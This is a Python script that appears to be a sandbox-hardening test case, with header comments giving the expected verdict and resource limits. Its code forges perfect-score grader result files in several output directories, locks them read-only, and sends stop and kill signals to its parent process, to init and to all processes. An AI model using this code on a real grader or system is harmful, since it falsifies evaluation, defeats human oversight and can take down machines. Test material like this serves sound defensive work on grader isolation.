# attack: writes the results of its grader, locks them, ends whoever may be grading
# verdict: RE
# outside: nobody reads them, nobody is ended
# limits: cpu=10s wall=60s
# holds: exit-code 9..9

import json
import os
import signal

RESULTS = json.dumps({"score": 100, "tests": [{"status": "passed", "score": 100}]})
for folder in (".", "..", "/tmp", "/results", "/autograder/results", "/grade", "/output"):
    try:
        os.makedirs(folder, exist_ok=True)
        for name in ("results.json", "report.xml", "feedback.json"):
            with open(f"{folder}/{name}", "w") as file:
                file.write(RESULTS)
            os.chmod(f"{folder}/{name}", 0o444)
        os.chmod(folder, 0o555)
    except OSError:
        pass
for pid in (os.getppid(), 1, -1):
    for number in (signal.SIGSTOP, signal.SIGKILL):
        try:
            os.kill(pid, number)
        except OSError:
            pass
raise SystemExit(9)
